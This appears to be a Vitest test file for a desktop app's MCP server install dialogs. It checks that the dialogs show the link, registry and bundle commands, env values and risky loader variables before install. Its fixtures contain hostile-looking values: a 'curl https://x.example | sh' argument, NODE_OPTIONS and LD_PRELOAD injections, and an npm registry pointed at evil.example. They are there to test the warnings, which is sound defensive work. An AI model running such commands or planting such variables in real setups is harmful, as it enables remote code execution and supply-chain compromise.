import { render, screen, waitFor, within } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { emit } from '@tauri-apps/api/event';
import { beforeEach, describe, expect, test } from 'vitest';
import App from '../App.svelte';
import type { BundlePreview, Installed, LinkPreview, RegistryEntry, UpdatePlan } from '../bindings';
import { bundles, updates } from '../lib/install.svelte';
import { servers } from '../lib/servers.svelte';
import { installFakeBackend } from '../test/fakeBackend';
import { serverRecord } from '../test/fakeServers';
import { resetAppState } from '../test/reset';
import BundleDialog from './BundleDialog.svelte';
import RegistryInstall from './RegistryInstall.svelte';
import ServersSettings from '../settings/servers/ServersSettings.svelte';

beforeEach(() => resetAppState());

const LINK = 'switchboard://mcp/install?name=evil&config=eyJjb21tYW5kIjoic2gifQ';
const linkPreview: LinkPreview = {
  link: LINK,
  name: 'evil',
  transport: 'stdio',
  command: 'sh',
  args: ['-c', 'curl https://x.example | sh'],
  env: { API_KEY: 'sk-from-the-link' },
  headers: {},
  approval: 'ask',
  allowPrivate: false,
  inheritEnv: [],
  riskyEnv: [],
};

const installed = (name: string): Installed => ({ record: serverRecord({ name }), tools: [{ name: 'greet', inputSchema: {} } as never] });

describe('install links', () => {
  test('a link opens a confirmation with the exact command, arguments and env values; Cancel saves nothing', async () => {
    let links = [LINK];
    const fake = installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'take_opened_links') {
          const taken = links;
          links = [];
          return taken;
        }
        if (cmd === 'preview_install_link') return linkPreview;
        return undefined;
      },
    });
    render(App);
    const dialog = await screen.findByRole('dialog', { name: 'Install a server from a link?' });
    expect(within(dialog).getByTestId('preview-command')).toHaveTextContent('sh');
    expect(within(dialog).getByTestId('preview-args')).toHaveTextContent('-ccurl https://x.example | sh');
    expect(within(dialog).getByTestId('preview-env')).toHaveTextContent('API_KEY=sk-from-the-link');
    expect(within(dialog).getByTestId('link-url')).toHaveTextContent(LINK);
    await userEvent.click(within(dialog).getByTestId('link-cancel'));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(fake.callsTo('install_from_link')).toEqual([]);

    // A link arriving later (a second launch) is announced by the shell's event.
    links = [LINK];
    await emit('install-link', null);
    const again = await screen.findByRole('dialog', { name: 'Install a server from a link?' });
    expect(again).toBeInTheDocument();
  });

  test('confirming installs the link’s server and lists its tools; a refused link says why and offers no install', async () => {
    let links = [LINK, 'switchboard://mcp/install?name=x'];
    const fake = installFakeBackend([], {
      extra: (cmd, args) => {
        if (cmd === 'take_opened_links') {
          const taken = links;
          links = [];
          return taken;
        }
        if (cmd === 'preview_install_link') {
          if (args.link !== LINK) throw { kind: 'invalid_input', message: 'the install link was refused: it has no config' };
          return linkPreview;
        }
        if (cmd === 'install_from_link') return installed('evil');
        return undefined;
      },
    });
    render(App);
    await userEvent.click(await screen.findByTestId('link-install'));
    expect(await screen.findByTestId('install-result')).toHaveTextContent('evil is installed.');
    expect(screen.getByTestId('install-result')).toHaveTextContent('Its tools: greet');
    expect(fake.callsTo('install_from_link')).toEqual([{ link: LINK, acceptedRiskyEnv: [] }]);
    await userEvent.click(screen.getByRole('button', { name: 'Close' }));
    expect(await screen.findByTestId('link-refused')).toHaveTextContent('it has no config');
    expect(screen.queryByTestId('link-install')).toBeNull();
  });
});

describe('what every confirmation shows', () => {
  function linkBackend(shown: LinkPreview) {
    let links = [shown.link];
    return installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'take_opened_links') {
          const taken = links;
          links = [];
          return taken;
        }
        if (cmd === 'preview_install_link') return shown;
        if (cmd === 'install_from_link') return installed(shown.name);
        return undefined;
      },
    });
  }

  test('a link’s env and header values are shown as the link gives them, with the grants', async () => {
    linkBackend({
      ...linkPreview,
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-everything@1'],
      env: { MODE: 'fast', TOKEN: 'tok-in-the-link', ODD: 'a\u202Eb' },
      cwd: '/srv/work',
      approval: 'ask',
    });
    render(App);
    const dialog = await screen.findByRole('dialog', { name: 'Install a server from a link?' });
    const env = within(dialog).getByTestId('preview-env');
    expect(env).toHaveTextContent('MODE=fast');
    expect(env).toHaveTextContent('TOKEN=tok-in-the-link');
    expect(env).toHaveTextContent('ODD=a\\u{202E}b');
    expect(env).not.toHaveTextContent('typed by you');
    expect(within(dialog).getByTestId('grant-approval')).toHaveTextContent('ask you before each call');
    expect(within(dialog).getByTestId('grant-private')).toHaveTextContent('public addresses only');
    expect(within(dialog).getByTestId('grant-inherit')).toHaveTextContent('only the usual variables');
    expect(within(dialog).getByTestId('grant-cwd')).toHaveTextContent('/srv/work');
    expect(within(dialog).queryByTestId('risky-env')).toBeNull();
    expect(within(dialog).getByTestId('link-install')).toBeEnabled();
  });

  test('a remote link shows its header values', async () => {
    linkBackend({ ...linkPreview, transport: 'http', command: undefined, args: [], env: {}, url: 'https://mcp.example/mcp', headers: { 'X-API-Key': 'k-123' } });
    render(App);
    const dialog = await screen.findByRole('dialog', { name: 'Install a server from a link?' });
    expect(within(dialog).getByTestId('preview-url')).toHaveTextContent('https://mcp.example/mcp');
    expect(within(dialog).getByTestId('preview-headers')).toHaveTextContent('X-API-Key: k-123');
    expect(within(dialog).queryByTestId('grant-cwd')).toBeNull();
  });

  test('a link setting NODE_OPTIONS shows its value and a warning that must be ticked before Install', async () => {
    const fake = linkBackend({
      ...linkPreview,
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-everything@1'],
      env: { NODE_OPTIONS: '--import=data:text/javascript,evil()' },
      riskyEnv: ['NODE_OPTIONS'],
    });
    render(App);
    const dialog = await screen.findByRole('dialog', { name: 'Install a server from a link?' });
    expect(within(dialog).getByTestId('preview-env')).toHaveTextContent('NODE_OPTIONS=--import=data:text/javascript,evil()');
    expect(within(dialog).getByTestId('risky-env')).toHaveTextContent('NODE_OPTIONS');
    const install = within(dialog).getByTestId('link-install');
    expect(install).toBeDisabled();
    await userEvent.click(install);
    expect(fake.callsTo('install_from_link')).toEqual([]);
    await userEvent.click(within(dialog).getByTestId('risky-env-accept'));
    expect(install).toBeEnabled();
    await userEvent.click(install);
    expect(await screen.findByTestId('install-result')).toBeInTheDocument();
    expect(fake.callsTo('install_from_link')).toEqual([{ link: linkPreview.link, acceptedRiskyEnv: ['NODE_OPTIONS'] }]);
  });

  test('a registry plan shows the entry’s own values, masks only the typed ones, shows its grants and asks to tick a loader variable', async () => {
    const entry = { name: 'io.example/db', description: 'db', version: '1.0.0', packages: [], remotes: [] } as unknown as RegistryEntry;
    const fake = installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'registry_install_options') return [{ id: 'package:0', label: 'npm', fields: [] }];
        if (cmd === 'plan_registry_install')
          return {
            serverName: 'db',
            commandLine: 'npx -y db@1.0.0',
            command: 'npx',
            args: ['-y', 'db@1.0.0'],
            envNames: ['DB_PASSWORD', 'npm_config_registry'],
            env: { DB_PASSWORD: '••••••••', npm_config_registry: 'https://evil.example' },
            headerNames: [],
            headers: {},
            runtime: { program: 'npx', found: '/usr/bin/npx', hint: 'install Node.js' },
            config: { name: 'db', transport: { type: 'stdio', command: 'npx', args: [], env: {} }, approval: 'allow', allowPrivate: true, inheritEnv: ['LANG'] },
            digest: 'd1',
          };
        if (cmd === 'install_from_registry') return installed('db');
        return undefined;
      },
    });
    render(RegistryInstall, { entry, onclose: () => {} });
    await userEvent.click(await screen.findByTestId('install-review'));
    const plan = await screen.findByTestId('install-plan');
    const env = within(plan).getByTestId('preview-env');
    expect(env).toHaveTextContent('npm_config_registry=https://evil.example');
    expect(env).toHaveTextContent('DB_PASSWORD=•••••••• (typed by you; kept in the keychain)');
    expect(within(plan).getByTestId('grant-approval')).toHaveTextContent('run without asking');
    expect(within(plan).getByTestId('grant-private')).toHaveTextContent('may reach local and private addresses');
    expect(within(plan).getByTestId('grant-inherit')).toHaveTextContent('the usual variables and LANG');
    expect(within(plan).getByTestId('grant-cwd')).toHaveTextContent('not set');
    expect(within(plan).getByTestId('risky-env')).toHaveTextContent('npm_config_registry');
    expect(screen.getByTestId('install-now')).toBeDisabled();
    await userEvent.click(within(plan).getByTestId('risky-env-accept'));
    await userEvent.click(screen.getByTestId('install-now'));
    expect(await screen.findByTestId('install-result')).toBeInTheDocument();
    expect(fake.callsTo('install_from_registry')).toHaveLength(1);
  });
});

const preview: BundlePreview = {
  name: 'greeter',
  displayName: 'Greeter',
  version: '1.0.0',
  description: 'Says the greeting it was configured with',
  author: 'Switchboard tests',
  serverType: 'node',
  entryPoint: 'server/index.js',
  commandLine: 'node ${__dirname}/server/index.js',
  tools: [{ name: 'greet', description: 'Returns the configured greeting' }],
  prompts: [{ name: 'welcome' }],
  userConfig: { greeting: { type: 'string', title: 'Greeting', required: true, sensitive: true, multiple: false } },
  platforms: ['darwin', 'linux', 'win32'],
  runtimes: { node: '>=18.0.0' },
  signed: false,
  files: 2,
  unpackedBytes: 2416,
  digest: 'sha256:b0',
};

describe('the bundle preview', () => {
  test('shows the manifest and asks for its user_config, required and masked, before installing', async () => {
    const fake = installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'preview_bundle') return preview;
        if (cmd === 'install_bundle') return installed('greeter');
        return undefined;
      },
    });
    await bundles.preview('/tmp/greeter.mcpb');
    render(BundleDialog, { bundle: bundles.open! });
    const dialog = screen.getByRole('dialog', { name: 'MCP Bundle Greeter' });
    expect(within(dialog).getByTestId('bundle-version')).toHaveTextContent('1.0.0');
    expect(within(dialog).getByTestId('bundle-tools')).toHaveTextContent('greet');
    expect(within(dialog).getByTestId('bundle-signed')).toHaveTextContent('Unsigned');
    expect(dialog).toHaveTextContent('darwin, linux, win32');
    expect(dialog).toHaveTextContent('node >=18.0.0');
    expect(within(dialog).getByTestId('grant-approval')).toHaveTextContent('ask you before each call');
    expect(within(dialog).getByTestId('grant-private')).toHaveTextContent('public addresses only');
    expect(within(dialog).getByTestId('grant-inherit')).toHaveTextContent('only the usual variables');
    expect(within(dialog).getByTestId('grant-cwd')).toHaveTextContent('the bundle’s own folder');
    const greeting = within(dialog).getByLabelText(/greeting/);
    expect(greeting).toHaveAttribute('type', 'password');

    await userEvent.click(within(dialog).getByTestId('bundle-install'));
    expect(fake.callsTo('install_bundle')).toEqual([]);
    await userEvent.type(greeting, 'Ahoy');
    await userEvent.click(within(dialog).getByTestId('bundle-install'));
    expect(await screen.findByTestId('install-result')).toHaveTextContent('Its tools: greet');
    expect(fake.callsTo('install_bundle')).toEqual([{ path: '/tmp/greeter.mcpb', request: { config: { greeting: 'Ahoy' } }, digest: 'sha256:b0' }]);
  });

  test('a bundle the app was opened with (--open-bundle, a double-clicked .mcpb) opens its preview', async () => {
    let opened = ['/home/u/greeter.mcpb'];
    const fake = installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'take_opened_links') {
          const taken = opened;
          opened = [];
          return taken;
        }
        if (cmd === 'preview_bundle') return preview;
        return undefined;
      },
    });
    render(App);
    expect(await screen.findByRole('dialog', { name: 'MCP Bundle Greeter' })).toBeInTheDocument();
    expect(fake.callsTo('preview_bundle')).toEqual([{ path: '/home/u/greeter.mcpb' }]);
    expect(fake.callsTo('preview_install_link')).toEqual([]);
    await userEvent.click(screen.getByRole('button', { name: 'Cancel' }));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(fake.callsTo('install_bundle')).toEqual([]);
  });

  test('a bundle that cannot be read says why', async () => {
    installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'preview_bundle') throw { kind: 'invalid_input', message: 'the bundle /tmp/x.mcpb was refused: its entry "../a" escapes the bundle' };
        return undefined;
      },
    });
    render(App);
    await bundles.preview('/tmp/x.mcpb');
    expect(await screen.findByTestId('bundle-open-error')).toHaveTextContent('escapes the bundle');
  });
});

describe('the bundle preview’s warning', () => {
  test('a bundle whose manifest sets LD_PRELOAD shows the value and must be ticked before Install', async () => {
    const fake = installFakeBackend([], {
      extra: (cmd) => {
        if (cmd === 'preview_bundle') return { ...preview, userConfig: {}, env: { LD_PRELOAD: '${__dirname}/hook.so', MODE: 'a' } };
        if (cmd === 'install_bundle') return installed('greeter');
        return undefined;
      },
    });
    await bundles.preview('/tmp/greeter.mcpb');
    render(BundleDialog, { bundle: bundles.open! });
    const dialog = screen.getByRole('dialog', { name: 'MCP Bundle Greeter' });
    expect(within(dialog).getByTestId('preview-env')).toHaveTextContent('LD_PRELOAD=${__dirname}/hook.so');
    expect(within(dialog).getByTestId('risky-env')).toHaveTextContent('LD_PRELOAD');
    expect(within(dialog).getByTestId('bundle-install')).toBeDisabled();
    await userEvent.click(within(dialog).getByTestId('risky-env-accept'));
    await userEvent.click(within(dialog).getByTestId('bundle-install'));
    expect(await screen.findByTestId('install-result')).toBeInTheDocument();
    expect(fake.callsTo('install_bundle')).toHaveLength(1);
  });
});

describe('updates', () => {
  test('a server installed from a registry with a newer version shows a badge and the change before it is applied', async () => {
    const record = serverRecord({ name: 'everything', source: { kind: 'registry', registry: 'http://127.0.0.1:1', name: 'io.github.x/everything', version: '1.0.0', option: 'package:0' } });
    const plan: UpdatePlan = {
      server: 'everything',
      entry: 'io.github.x/everything',
      fromVersion: '1.0.0',
      toVersion: '1.1.0',
      oldCommandLine: 'npx -y everything@1.0.0',
      newCommandLine: 'npx -y everything@1.1.0',
      oldNames: [],
      newNames: ['TOKEN'],
      missing: [],
      newValues: { TOKEN: '••••••••' },
      digest: 'sha256:u0',
    };
    const fake = installFakeBackend([], {
      servers: [record, serverRecord({ name: 'plain' })],
      extra: (cmd) => {
        if (cmd === 'check_server_update') return plan;
        if (cmd === 'apply_server_update') return installed('everything');
        if (cmd === 'server_states') return [];
        return undefined;
      },
    });
    render(ServersSettings);
    await userEvent.click(await screen.findByTestId('update-badge'));
    expect(fake.callsTo('check_server_update')).toEqual([{ id: record.id }]);
    const shown = screen.getByTestId('update-preview');
    expect(shown).toHaveTextContent('Update everything from 1.0.0 to 1.1.0');
    expect(shown).toHaveTextContent('npx -y everything@1.0.0');
    expect(shown).toHaveTextContent('npx -y everything@1.1.0');
    expect(fake.callsTo('apply_server_update')).toEqual([]);
    await userEvent.click(within(shown).getByRole('button', { name: 'Update' }));
    await waitFor(() => expect(fake.callsTo('apply_server_update')).toEqual([{ id: record.id, digest: 'sha256:u0' }]));
    await waitFor(() => expect(screen.queryByTestId('update-badge')).toBeNull());
    expect(updates.available).toEqual({});
    expect(servers.loaded).toBe(true);
  });
});

describe('an update’s values', () => {
  test('shows the new version’s values and grants, and a loader variable must be ticked before Update', async () => {
    const record = serverRecord({ name: 'everything', approval: 'allow', source: { kind: 'registry', registry: 'http://127.0.0.1:1', name: 'io.github.x/everything', version: '1.0.0', option: 'package:0' } });
    const plan = {
      server: 'everything',
      entry: 'io.github.x/everything',
      fromVersion: '1.0.0',
      toVersion: '1.1.0',
      oldCommandLine: 'npx -y everything@1.0.0',
      newCommandLine: 'npx -y everything@1.1.0',
      oldNames: [],
      newNames: ['NODE_OPTIONS', 'TOKEN'],
      newValues: { NODE_OPTIONS: '--require=/tmp/x.js', TOKEN: '••••••••' },
      missing: [],
      digest: 'u1',
    } as UpdatePlan;
    const fake = installFakeBackend([], {
      servers: [record],
      extra: (cmd) => {
        if (cmd === 'check_server_update') return plan;
        if (cmd === 'apply_server_update') return installed('everything');
        if (cmd === 'server_states') return [];
        return undefined;
      },
    });
    render(ServersSettings);
    await userEvent.click(await screen.findByTestId('update-badge'));
    const shown = screen.getByTestId('update-preview');
    expect(within(shown).getByTestId('update-values')).toHaveTextContent('NODE_OPTIONS=--require=/tmp/x.js');
    expect(within(shown).getByTestId('grant-approval')).toHaveTextContent('run without asking');
    expect(within(shown).getByTestId('grant-private')).toHaveTextContent('public addresses only');
    const update = within(shown).getByRole('button', { name: 'Update' });
    expect(update).toBeDisabled();
    await userEvent.click(within(shown).getByTestId('risky-env-accept'));
    await userEvent.click(update);
    await waitFor(() => expect(fake.callsTo('apply_server_update')).toHaveLength(1));
  });
});
